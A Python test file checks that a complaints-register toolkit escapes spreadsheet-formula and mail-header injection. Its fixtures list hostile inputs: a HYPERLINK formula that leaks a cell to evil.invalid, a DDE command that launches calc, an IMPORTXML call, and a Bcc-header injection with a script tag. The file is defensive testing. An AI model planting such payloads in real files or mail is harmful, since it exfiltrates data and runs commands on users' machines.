"""No cell of ours becomes a formula: in a sheet, in a workbook, in a CSV file; nor a header in a message."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from tests.google.bench import Bench, complaint
from tests.notifying.conftest import Mailbox, Webhook, mailbox, webhook
from tests.reports.knowing import demo_contents, knowledge_of_contents
from tests.storage.workbook_tools import DAY, make_register, number
from toolkit.notifying.addresses import Target
from toolkit.notifying.digests import Digest
from toolkit.notifying.sending import send
from toolkit.pipeline import refresh
from toolkit.reports.pages import report_pages
from toolkit.schema import register_schema
from toolkit.writing.csv_lines import csv_line, harmless, starts_formula

__all__ = ["mailbox", "webhook"]
NOW = datetime(2026, 11, 25, 8, 30, tzinfo=UTC)
FORMULAS = (
    '=HYPERLINK("https://evil.invalid?"&A1;"klik")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SOM(1)", "\t=1+1",
    "\r=1+1", "|calc", "%0A=1", "\u00a0=1+1", "\u202e=1+1", "＝1+1", '=IMPORTXML("https://evil.invalid")',
)  # fmt: skip
SCHEMA = register_schema()


def test_in_a_sheet_every_text_of_a_cell_stays_text(bench: Bench) -> None:
    """Whatever people typed, our tabs show it as it is: none holds a formula, and nothing is computed from it."""
    bench.filled(1)
    for row, text in enumerate(FORMULAS[:11], 2):
        bench.enter(row, complaint(row, Omschrijving=text, Rubriek=text, Kanaal=text, Soort=text))
    bench.refresh()
    ours = [table.title for table in bench.schema if table.owner == "script"]
    cells = {title: [v for row in bench.entered(title) for v in row] for title in ours}
    assert [title for title, values in cells.items() if "formula" in values] == []
    quoted = " ".join(str(v) for v in cells["Controle"])
    assert all(text in quoted for text in FORMULAS[:11] if text.isprintable())


def test_in_a_workbook_every_text_of_a_cell_stays_text(tmp_path: Path) -> None:
    """The same, as another program reads the file; the only formulas are our own in the staff's rows."""
    rows = [
        {
            "number": number(at),
            "handler": text,
            "received_on": DAY,
            "channel": text,
            "category": text,
            "description": text,
            "unit_or_tenant_id": text,
        }
        for at, text in enumerate(FORMULAS, 1)
    ]
    lists = {"employees": [{"name": text, "team": text} for text in FORMULAS]}
    storage = make_register(tmp_path, SCHEMA, {"complaints": rows, **lists})
    refresh(storage, SCHEMA, NOW)
    book = openpyxl.load_workbook(storage.path)
    found = {
        table.title: {
            str(c.value)[:9] for row in book[table.title] for c in row if c.data_type == "f"
        }
        for table in SCHEMA
    }
    ours = {table.title for table in SCHEMA if table.owner == "script"}
    assert set().union(*(found[title] for title in ours)) == set()
    assert set().union(*found.values()) == {"=IFERROR("}
    quoted = " ".join(str(c.value) for row in book["Controle"] for c in row)
    assert all(text in quoted for text in FORMULAS if text.isprintable())


def test_no_table_to_download_holds_a_formula() -> None:
    """Names of categories, complexes and teams stand in every CSV file of every report."""
    contents = demo_contents()
    for table, column in (("categories", "name"), ("complexes", "name"), ("employees", "team")):
        old = list(dict.fromkeys(row[column] for row in contents[table]))
        names = dict(zip(old, (f"{text} {n}" for n, text in enumerate(FORMULAS * 3)), strict=False))
        for row in contents[table]:
            row[column] = names.get(row[column], row[column])
        for row in (*contents["complaints"], *contents["improvement_actions"], *contents["units"]):
            key = {"categories": "category", "complexes": "complex"}.get(table, "")
            if row.get(key):
                row[key] = names.get(row[key], row[key])
    texts = report_pages(knowledge_of_contents(contents), NOW).texts
    files = {name: text for name, text in texts.items() if name.endswith(".csv")}
    assert len(files) > 20
    cells = [
        cell
        for text in files.values()
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";")
        for cell in row
    ]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    numbers = [c for c in cells if c.startswith("-") and c[1:].replace(",", "").isdigit()]
    assert [c for c in cells if starts_formula(c) and c not in numbers] == []


@pytest.mark.parametrize("text", [*FORMULAS, " =1+1", "\n=1+1", "\ufeff=1+1", "＠SOM(1)", "\x0b-1"])
def test_what_looks_like_a_formula_gets_an_apostrophe(text: str) -> None:
    """Also behind spaces and signs that nobody sees, and in full width; an ordinary text gets none."""
    assert harmless(text) == f"'{text}"
    assert harmless(f"Lift{text}") == f"Lift{text}"


@pytest.mark.parametrize("delimiter", [",", "\t", "|", ";"])
def test_no_program_finds_a_formula_within_a_cell(delimiter: str) -> None:
    """A program that parts cells elsewhere than at a semicolon reads no cell that begins within one of ours."""
    cells = [f"Lift{sign}=1+1{sign}x" for sign in ',;\t|\r\n"']
    for cell in cells:
        line = csv_line([cell, 3])
        found = [c for row in csv.reader(io.StringIO(line), delimiter=delimiter) for c in row]
        assert [c for c in found if starts_formula(c)] == []
        assert next(csv.reader(io.StringIO(line, newline=""), delimiter=";")) == [cell, "3"]


TEAM = "Verhuur\r\nBcc: dief@evil.invalid\r\n\r\n<script>"


def test_a_name_cannot_add_a_header_to_a_mail(mailbox: Mailbox, webhook: Webhook) -> None:
    """A team with line ends in its name: one recipient, one subject, and plain text."""
    digest = Digest(title=f"Klachten ({TEAM})", body=f"Nieuwe signalen voor team {TEAM}")
    send(Target(written=mailbox.url("a@corp.example"), place="notify.coordinator 1"), digest, {})
    send(Target(written=webhook.url(), place="notify.coordinator 2"), digest, {})
    ((recipients, mail),) = mailbox.mails
    assert recipients == ["a@corp.example"]
    assert mail["Bcc"] is None
    assert mail.get_content_type() == "text/plain"
    assert len(mail.get_all("Subject")) == 1
    assert len(webhook.posts) == 1
